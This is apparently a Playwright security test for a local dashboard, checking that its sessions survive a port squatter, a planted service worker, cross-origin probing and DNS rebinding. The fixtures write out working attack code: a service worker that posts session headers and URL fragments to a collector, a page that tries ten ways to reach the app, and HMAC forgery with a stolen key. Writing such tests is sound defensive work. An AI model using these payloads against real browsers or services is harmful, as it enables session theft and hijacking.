// What else may stand at our port in the browser's eyes: a worker that was left before we came, pages beside us, and whoever takes the
// port when we are gone. Each step asserts. Asks its parent, who owns the launcher, by lines that begin with PLEASE.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import { createHmac } from 'node:crypto';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { QUIET, please, steps } from '../support/walk.mjs';

const { WALK_PORT, WALK_CHROMIUM, WALK_PLAYWRIGHT, WALK_PICTURE } = process.env;
const port = Number(WALK_PORT);
const { chromium } = createRequire(import.meta.url)(WALK_PLAYWRIGHT);

async function until(what, look) {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const found = await look();
    if (found) return found;
    if (Date.now() > deadline) throw new Error(`it did not happen within 20 s: ${what}`);
    await new Promise((done) => setTimeout(done, 50));
  }
}

// Serves on both families of this machine's loopback, as a program does that wants the whole name.
async function serve(wanted, handler) {
  const servers = [];
  let at = wanted;
  for (const host of ['127.0.0.1', '::1']) {
    const server = http.createServer(handler);
    await new Promise((done, failed) => {
      server.once('error', (error) => (host === '::1' && error.code === 'EADDRNOTAVAIL' ? done() : failed(error)));
      server.listen(at, host, done);
    });
    at = server.address()?.port ?? at;
    servers.push(server);
  }
  return { port: at, end: () => Promise.all(servers.map((server) => new Promise((done) => { server.close(done); server.closeAllConnections(); }))) };
}

// What thieves bring home.
const loot = [];
const home = await serve(0, (request, answer) => {
  let body = '';
  request.on('data', (part) => { body += part; });
  request.on('end', () => {
    if (request.method === 'POST') loot.push(JSON.parse(body));
    answer.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }).end();
  });
});
const brings = `const bring = (what) => fetch('http://127.0.0.1:${home.port}/', { method: 'POST', body: JSON.stringify(what) });`;

const WORKER = `${brings}
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('fetch', (event) => {
  const { url, method, mode, headers } = event.request;
  bring({ worker: url, method, session: headers.get('X-Zhongshu-Session') });
  if (mode === 'navigate') {
    event.respondWith(new Response(${JSON.stringify(`<h1>TAKEN</h1><script>${brings} bring({ key: location.hash })</script>`)}, { headers: { 'Content-Type': 'text/html' } }));
  }
});`;
const PLANT = `<h1>somebody's page</h1><script>
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted'; });
</script>`;

// Whoever has our port while we are gone: says yes to everything, learns what it is sent and what a tab kept, and uses it at once.
let heard = [];
let kept = null;
function forged({ method, url, headers }) {
  if (!kept) return headers['x-zhongshu-session'] ?? 'none';
  return createHmac('sha256', kept.proof_key).update(`zhongshu\n${headers['x-zhongshu-challenge']}\n${method} ${url}\n200`).digest('base64url');
}
const squat = () => serve(port, (request, answer) => {
  heard.push({ url: request.url, session: request.headers['x-zhongshu-session'], host: request.headers.host });
  if (request.url === '/worker.js') {
    answer.writeHead(200, { 'Content-Type': 'text/javascript' }).end(WORKER);
  } else if (request.url.startsWith('/ui/') || request.url.startsWith('/api/')) {
    const type = request.url.startsWith('/ui/') ? 'text/html' : 'application/json';
    answer.writeHead(200, { 'Content-Type': type, 'X-Zhongshu-Proof': forged(request) })
      .end(type === 'text/html' ? '<p>TAKEN</p><iframe src="/"></iframe>' : '{"ok":true,"seq":1,"events":[],"TAKEN":true}');
  } else {
    answer.writeHead(200, { 'Content-Type': 'text/html' }).end(PLANT);
  }
});

const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'zs-doors-'));
const context = await chromium.launchPersistentContext(profile, {
  executablePath: WALK_CHROMIUM,
  args: [
    ...QUIET,
    // The name of an attacker's page that points at this machine by now.
    '--host-resolver-rules=MAP rebound.test 127.0.0.1',
  ],
  viewport: { width: 1200, height: 900 }, locale: 'en-GB',
});
context.setDefaultTimeout(20_000);

const pages = new Map();
const step = steps(async () => {
  for (const [called, page] of pages) {
    console.error(`${called} at ${page.url()} said:\n${await page.locator('body').innerText().catch(() => '(nothing)')}`);
    await page.screenshot({ path: WALK_PICTURE.replace('.png', `-${called}.png`) }).catch(() => {});
  }
  await context.close();
  fs.rmSync(profile, { recursive: true, force: true });
});

async function tab(called, address) {
  const page = await context.newPage();
  pages.set(called, page);
  await page.goto(address);
  return page;
}
const state = (page, name) => page.waitForSelector(`#connection[data-state="${name}"]`);
const text = (page) => page.locator('body').innerText();

let link = process.env.WALK_LOGIN;
const stolen = () => loot.filter((it) => it.key || it.session);

// A page of another origin that tries every way there is to `target`, and tells what came of it.
const BURGLAR = (target) => `<h1>burglar</h1><iframe id="frame" src="${target}/"></iframe><script>(async () => {
  const said = {};
  const ways = {
    read: () => fetch('${target}/api/status', { credentials: 'include' }).then((answer) => answer.text()),
    blind: () => fetch('${target}/api/queue/pause', { method: 'POST', mode: 'no-cors', body: '{}', headers: { 'Content-Type': 'text/plain' } }).then((answer) => answer.type),
    json: () => fetch('${target}/api/queue/pause', { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } }).then((answer) => answer.text()),
    login: () => fetch('${target}/api/login', { method: 'POST', body: '{"key":"x"}', headers: { 'Content-Type': 'application/json' } }).then((answer) => answer.text()),
    stream: () => fetch('${target}/api/events').then((answer) => answer.text()),
    script: () => new Promise((done, failed) => document.head.append(Object.assign(document.createElement('script'), { src: '${target}/api/status', onload: () => done('loaded'), onerror: () => failed(new Error('refused')) }))),
    socket: () => new Promise((done, failed) => { const it = new WebSocket('${target}/api/events'.replace('http', 'ws')); it.onopen = () => done('open'); it.onerror = () => failed(new Error('refused')); }),
    worker: () => navigator.serviceWorker.register('${target}/assets/app.js'),
    window: async () => { const it = open('${target}/'); await new Promise((done) => setTimeout(done, 500)); return it.document.body.innerHTML; },
    frame: async () => document.getElementById('frame').contentDocument.body.innerHTML,
  };
  for (const [way, go] of Object.entries(ways)) {
    said[way] = await Promise.resolve().then(go).then((it) => String(it).slice(0, 80), (error) => 'no: ' + error.message.slice(0, 80));
  }
  globalThis.said = said;
})();</script>`;

async function burgle(called, ours) {
  const sequence = async () => JSON.parse(await please('seq'));
  const before = await sequence();
  let page;
  const evil = await serve(0, (request, answer) => { answer.writeHead(200, { 'Content-Type': 'text/html' }).end(BURGLAR(ours)); });
  try {
    for (const name of ['127.0.0.1', 'other.localhost', 'rebound.test']) {
      page = await tab(`${called}-${name}`, `http://${name}:${evil.port}/`);
      const said = await until('the burglar is through', () => page.evaluate(() => globalThis.said ?? null));
      // The windows that it opened are dashboards of ours, each with its streams; a browser has six connections to one server.
      for (const other of context.pages()) if (![...pages.values()].includes(other)) await other.close();
      for (const [way, came] of Object.entries(said)) {
        // Sent blindly it says nothing but that something was sent; that nothing changed is seen below.
        if (way === 'blind' && came === 'opaque') continue;
        assert.match(came, /^no: /, `${name} ${way}: ${came}`);
      }
      await page.close();
    }
    // The rebound name at our own port: the page would be of the same origin as its requests.
    page = await tab(`${called}-rebound`, `http://rebound.test:${port}/`);
    assert.match(await text(page), /foreign_host|ERR_|not ours/);
    await page.close();
  } finally {
    await evil.end();
  }
  const refusals = /access_refused/;
  for (const event of await please(`since ${before}`).then(JSON.parse)) assert.match(event, refusals);
}

await step('before we come, somebody at our port leaves a worker in the browser', async () => {
  await please('kill');
  const squatter = await squat();
  for (const name of ['127.0.0.1', 'localhost']) {
    const page = await tab(`planting-${name}`, `http://${name}:${port}/`);
    await until('the worker is planted', async () => await page.title() === 'planted');
    await page.close();
  }
  await squatter.end();
});

let dashboard;
await step('the link leads around the worker: no request of ours passes it', async () => {
  link = await please('restart');
  const before = loot.length;
  dashboard = await tab('dashboard', link);
  await state(dashboard, 'live');
  assert.equal(await dashboard.evaluate(() => navigator.serviceWorker.controller), null);
  assert.equal(loot.length, before);
  assert.match(new URL(link).hostname, /^zhongshu-[a-z2-7]{16}\.localhost$/);
});

await step('the worker itself is thrown out as soon as the browser asks for its script again', async () => {
  for (const name of ['127.0.0.1', 'localhost']) {
    const page = await tab(`left-${name}`, `http://${name}:${port}/`);
    await until(`the worker of ${name} is gone`, async () => {
      // What the browser does by itself after a navigation, at the latest after a day.
      await page.evaluate(async () => { for (const it of await navigator.serviceWorker.getRegistrations()) await it.update().catch(() => {}); }).catch(() => {});
      await page.goto(`http://${name}:${port}/`);
      return await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.length === 0)).catch(() => false);
    });
    await page.goto(`http://${name}:${port}/`);
    await page.getByText('You are not signed in').waitFor();
    await page.close();
  }
  assert.deepEqual(stolen(), []);
});

await step('pages at other ports and under other names get nothing, see nothing, change nothing', async () => {
  await burgle('beside', new URL(link).origin);
  await burgle('beside-address', `http://127.0.0.1:${port}`);
  await state(dashboard, 'live');
});

let terminal;
await step('a terminal of ours runs on the page', async () => {
  await dashboard.locator('#terminals-toggle').click();
  await dashboard.locator('#terminal-new').click();
  await dashboard.locator('.dock-panel iframe').waitFor();
  terminal = new URL(await dashboard.locator('.dock-panel iframe').getAttribute('src'));
});

let squatter;
await step('we are gone and somebody has our port: the open page stops, and shows nothing of it', async () => {
  heard = [];
  // What it would find in a tab that is loaded again.
  kept = await dashboard.evaluate(() => JSON.parse(sessionStorage.getItem('zhongshu.session')));
  assert.ok(kept.proof_key);
  await please('kill');
  squatter = await squat();
  await dashboard.locator('#signed-out').waitFor();
  assert.match(await dashboard.locator('#signin-reason').innerText(), /not the zhongshu that this page signed in to/);
  assert.ok(!(await dashboard.content()).includes('TAKEN'));
  assert.equal(await dashboard.locator('iframe').count(), 0);
  assert.equal(await dashboard.evaluate(() => sessionStorage.length), 0);
  // It was asked, and so it knows the secret that tells who asks; that was not enough.
  assert.ok(heard.some((it) => it.session), JSON.stringify(heard));
});

await step('another tab of the same page tells a stranger nothing', async () => {
  const thief = await tab('thief', `${new URL(link).origin}/`);
  const told = await thief.evaluate(() => new Promise((done) => {
    const channel = new BroadcastChannel('zhongshu.session');
    channel.onmessage = ({ data }) => done(data);
    channel.postMessage({ kind: 'ask' });
    setTimeout(() => done(null), 1500);
  }));
  assert.equal(told, null);
  await until('its worker is planted', async () => await thief.title() === 'planted');
  await thief.close();
});

await step('nor can its page frame the live terminal, whose address it has', async () => {
  const thief = await tab('framing', `${new URL(link).origin}/`);
  await thief.evaluate((address) => { document.body.append(Object.assign(document.createElement('iframe'), { src: address })); }, terminal.href);
  const frame = await (await thief.locator('iframe').elementHandle()).contentFrame();
  await until('the browser refuses the frame', () => frame.url().startsWith('chrome-error:'));
  const answer = await fetch(terminal.origin);
  assert.match(answer.headers.get('content-security-policy'), /frame-ancestors 'none'/);
  await thief.close();
});

await step('we come back under another name, and what was planted meanwhile has nothing of ours', async () => {
  await squatter.end();
  const before = loot.length;
  const again = await please('restart');
  assert.notEqual(new URL(again).hostname, new URL(link).hostname);
  const page = await tab('again', again);
  await state(page, 'live');
  assert.equal(await page.evaluate(() => navigator.serviceWorker.controller), null);
  assert.deepEqual(loot.slice(before).filter((it) => it.key || it.session), []);
  await burgle('after', new URL(again).origin);
  await page.close();
});

await context.close();
await home.end();
fs.rmSync(profile, { recursive: true, force: true });
process.exit(0);
